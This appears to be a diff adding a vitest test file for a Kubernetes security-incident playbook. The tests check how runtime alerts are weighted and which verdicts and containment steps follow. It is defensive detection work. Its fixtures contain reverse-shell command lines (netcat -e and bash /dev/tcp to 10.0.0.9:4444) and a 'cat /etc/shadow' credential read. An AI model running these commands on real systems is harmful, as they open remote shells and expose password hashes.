@@ -1,0 +1,192 @@
+import { describe, expect, it } from 'vitest'
+import type { Alert, NewAlert } from '../../domain/alert.ts'
+import type { Entity } from '../../domain/entity.ts'
+import type { Incident } from '../../domain/incident.ts'
+import { sentenceParts } from '../../incidents/grounding.ts'
+import { buildCaseFile, type CaseFile, type CaseParts } from '../../incidents/case-file.ts'
+import { type AlertContext, noContext } from '../../incidents/context.ts'
+import { minute, noon, podRecords, process_, storedAlert } from '../../test/support/records.ts'
+import { playbook } from './playbook.ts'
+import { judge, signalsOf } from './weigh.ts'
+
+const { entities } = podRecords({ name: 'checkout-1' })
+const stored = (kind: string, id: bigint): Entity => ({
+  ...(entities.find((one) => one.kind === kind) as Entity),
+  id,
+  origin: 'inventory',
+  sourceId: null,
+  firstNs: noon,
+  lastNs: noon,
+})
+const place = {
+  container: stored('container', 1n),
+  pod: stored('pod', 2n),
+  workload: stored('workload', 3n),
+  node: stored('node', 4n),
+  inferred: false,
+  how: 'the sensor gave the full container id',
+}
+
+let made = 0
+const alert = (over: Partial<NewAlert>): Alert =>
+  storedAlert(`alert-${(made += 1)}`, {
+    eventNs: noon + BigInt(made) * 1_000_000_000n,
+    container: { id: '137fd247aabd', name: 'app', image: null },
+    ...over,
+  })
+const incident = { id: 'i', scope: 'lab', severityFloor: 'high', alertCount: 0 } as Incident
+function caseOf(alerts: Alert[], over: Partial<CaseParts> = {}, context: AlertContext = place): CaseFile {
+  return buildCaseFile({
+    incident: { ...incident, alertCount: alerts.length },
+    groups: [],
+    coverage: [],
+    decisions: [],
+    inventory: { scope: 'lab', pods: 3, lastNs: noon },
+    cluster: { simulated: true },
+    resolved: alerts.map((one) => ({ alert: one, context })),
+    total: alerts.length,
+    ...over,
+  })
+}
+const weights = (one: Alert): Record<string, string> =>
+  Object.fromEntries(signalsOf(caseOf([one]).alerts).map((signal) => [signal.family.name, signal.weight]))
+const told = async (file: CaseFile): Promise<string> =>
+  (await playbook.analyse(file)).summary
+    .map((claim) =>
+      sentenceParts(claim.text)
+        .map((part) => (part.quoted ? `“${part.text}”` : part.text))
+        .join(''),
+    )
+    .join('\n')
+
+describe('what one alert is a sign of', () => {
+  const signs: [string, Partial<NewAlert>, Record<string, string>][] = [
+    [
+      'a shell that a web server started',
+      { rule: 'Run shell untrusted', process: process_({ name: 'sh', parentName: 'node' }) },
+      { shell: 'decisive' },
+    ],
+    [
+      'a shell that somebody opened',
+      { rule: 'Terminal shell in container', process: process_({ name: 'bash', parentName: 'containerd-shim' }) },
+      { shell: 'supporting' },
+    ],
+    [
+      'netcat with -e',
+      { rule: 'Netcat Remote Code Execution in Container', process: process_({ name: 'nc', cmdline: 'nc -e /bin/sh 10.0.0.9 4444' }) },
+      { 'reverse-shell': 'conclusive' },
+    ],
+    [
+      'the same under a rule of the operator’s own',
+      { rule: 'Our rule 7', process: process_({ name: 'bash', cmdline: 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1' }) },
+      { 'reverse-shell': 'conclusive' },
+    ],
+    [
+      'a program that was not in the image',
+      { rule: 'x', fields: { 'proc.is_exe_upper_layer': true }, process: process_({ name: 'k', exepath: '/opt/k' }) },
+      { 'dropped-binary': 'conclusive' },
+    ],
+    [
+      'a program run from memory',
+      { rule: 'Fileless execution via memfd_create', process: process_({ exepath: 'memfd:x' }) },
+      { 'fileless-execution': 'conclusive' },
+    ],
+    [
+      'a way out of the container',
+      { rule: 'Detect release_agent File Container Escapes', file: '/sys/fs/cgroup/release_agent', techniques: ['T1611'] },
+      { 'container-escape': 'conclusive' },
+    ],
+    [
+      'a server that reopens its own error log',
+      {
+        rule: 'Modify Container Entrypoint',
+        file: '/proc/self/fd/2',
+        techniques: ['T1611'],
+        process: process_({ name: 'httpd', parentName: 'httpd' }),
+      },
+      { 'container-escape': 'weak' },
+    ],
+    [
+      'a rule it has no chapter for, by its priority',
+      { rule: 'Zebra', priority: 'Critical', tactics: [], techniques: [] },
+      { 'other-detection': 'decisive' },
+    ],
+  ]
+  it.each(signs)('%s', (_name, over, expected) => expect(weights(alert(over))).toEqual(expected))
+})
+
+describe('what it concludes', () => {
+  const dropped = (): Alert =>
+    alert({ rule: 'Drop and execute new binary in container', process: process_({ name: 'k', cmdline: 'k -o x', exepath: '/tmp/k' }) })
+  const opened = (): Alert =>
+    alert({ rule: 'Run shell untrusted', process: process_({ name: 'sh', cmdline: 'sh -c id', parentName: 'java' }) })
+  const read = (): Alert =>
+    alert({
+      rule: 'Read sensitive file untrusted',
+      file: '/etc/shadow',
+      tactics: ['TA0006'],
+      techniques: ['T1555'],
+      process: process_({ name: 'cat', cmdline: 'cat /etc/shadow', parentName: 'sh' }),
+    })
+  const verdict = (alerts: Alert[], over: Partial<CaseParts> = {}): [string, string] => {
+    const file = caseOf(alerts, over)
+    const { verdict: found, confidence } = judge(file, signalsOf(file.alerts))
+    return [found, confidence]
+  }
+
+  it('needs a conclusive sign, or a decisive one and a second, to call it an intrusion', () => {
+    expect(verdict([dropped()])).toEqual(['true_positive', 'medium'])
+    expect(verdict([dropped(), read()])).toEqual(['true_positive', 'high'])
+    expect(verdict([opened(), read()])).toEqual(['true_positive', 'medium'])
+    expect(verdict([opened()])).toEqual(['suspicious', 'medium'])
+    expect(verdict([read()])).toEqual(['suspicious', 'low'])
+    expect(verdict([])).toEqual(['insufficient_data', 'low'])
+  })
+
+  it('names the likely way in only for what a server started besides its own workers', async () => {
+    expect(await told(caseOf([opened()]))).toMatch(/Its parent “java” is a server program/)
+    expect(
+      await told(caseOf([alert({ rule: 'Modify Container Entrypoint', process: process_({ name: 'httpd', parentName: 'httpd' }) })])),
+    ).not.toMatch(/server program/)
+  })
+
+  it('proposes evidence before containment, and containment only for an intrusion', async () => {
+    const actions = async (file: CaseFile) => (await playbook.analyse(file)).actions.map((one) => [one.action, one.entityId])
+    expect(await actions(caseOf([dropped(), read()]))).toEqual([
+      ['kubernetes.collect_logs', '2'],
+      ['kubernetes.isolate_pod', '2'],
+    ])
+    expect(await actions(caseOf([read()]))).toEqual([['kubernetes.collect_logs', '2']])
+    const escape = alert({ rule: 'Detect release_agent File Container Escapes', techniques: ['T1611'] })
+    expect((await actions(caseOf([escape]))).at(-1)).toEqual(['kubernetes.cordon_node', '4'])
+  })
+
+  it('says why no target can be named', async () => {
+    const blocked = async (file: CaseFile) => (await playbook.analyse(file)).actions.map((one) => [one.entityId, one.blocked])
+    expect(await blocked(caseOf([dropped()], { inventory: null }, noContext('no inventory record matches')))).toEqual([
+      [null, expect.stringMatching(/No inventory of cluster “lab” has been collected/)],
+    ])
+    expect(await blocked(caseOf([dropped()], {}, noContext('several containers begin with 137fd247aabd')))).toEqual([
+      [null, expect.stringMatching(/several containers begin with/)],
+    ])
+    expect(await blocked(caseOf([dropped()], {}, { ...place, pod: { ...place.pod, deletedNs: noon + minute } }))).toContainEqual([
+      '2',
+      expect.stringMatching(/no longer exists/),
+    ])
+    const onHost = storedAlert('host', { rule: 'Drop and execute new binary in container' })
+    expect(await blocked(caseOf([onHost], {}, noContext('on the host itself')))).toEqual([
+      [null, expect.stringMatching(/from a host itself/)],
+    ])
+  })
+
+  it('says what was not observed, never that it is clean', async () => {
+    const { unknowns } = await playbook.analyse(
+      caseOf([opened()], { inventory: null, coverage: [{ name: 'falco', collector: 'falco', scope: 'lab', lastSeenAt: null }] }),
+    )
+    expect(unknowns).toEqual([
+      expect.stringMatching(/has never been collected/),
+      expect.stringMatching(/Source “falco” has never been heard/),
+      expect.stringMatching(/Posture .* was not observed/),
+    ])
+  })
+})
